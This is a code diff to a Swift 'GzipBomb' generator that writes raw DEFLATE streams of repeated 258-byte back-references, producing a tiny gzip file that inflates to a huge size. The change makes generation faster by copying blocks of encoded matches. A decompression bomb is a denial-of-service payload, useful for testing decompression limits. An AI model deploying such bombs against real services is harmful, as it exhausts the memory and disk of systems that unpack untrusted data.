@@ -7,15 +7,13 @@ enum GzipBomb {
     bits.put(0b1, count: 1)  // the last block
     bits.put(0b01, count: 2)  // with the fixed codes of RFC 1951, section 3.2.6
     bits.putCode(0x30 + 0x20, count: 8)  // the literal " "
-    var left = length - 1
-    while left >= 258 {
-      bits.putCode(0b1100_0101, count: 8)  // repeat 258 bytes
-      bits.putCode(0, count: 5)  // from one byte back
-      left -= 258
-    }
-    for _ in 0..<left { bits.putCode(0x30 + 0x20, count: 8) }
+    let matches = (length - 1) / 258
+    // Eight matches are 13 bytes, the same 13 for every eight behind the first.
+    bits.putMatches(matches % 8 + 8)
+    bits.putMatches(8, copies: matches / 8 - 1)
+    for _ in 0..<(length - 1) % 258 { bits.putCode(0x30 + 0x20, count: 8) }
     bits.putCode(0, count: 7)  // end of block
-    let checksum = CRC32.checksum(repeatElement(0x20, count: length))
+    let checksum = CRC32.checksum(repeating: 0x20, count: length)
     let trailer = [checksum, UInt32(truncatingIfNeeded: length)].flatMap { word in
       [0, 8, 16, 24].map { UInt8(truncatingIfNeeded: word >> $0) }
     }
@@ -41,6 +39,17 @@ enum GzipBomb {
     /// A Huffman code, which goes with its highest bit first.
     mutating func putCode(_ code: UInt32, count: Int) {
       for place in (0..<count).reversed() { put(code >> place & 1, count: 1) }
+    }
+
+    /// So many times: repeat 258 bytes, from one byte back; all of that `copies` times.
+    mutating func putMatches(_ matches: Int, copies: Int = 1) {
+      let start = bytes.count
+      for _ in 0..<matches {
+        putCode(0b1100_0101, count: 8)
+        putCode(0, count: 5)
+      }
+      let made = Array(bytes[start...])
+      for _ in 1..<max(1, copies) { bytes += made }
     }
 
     consuming func finish() -> [UInt8] {
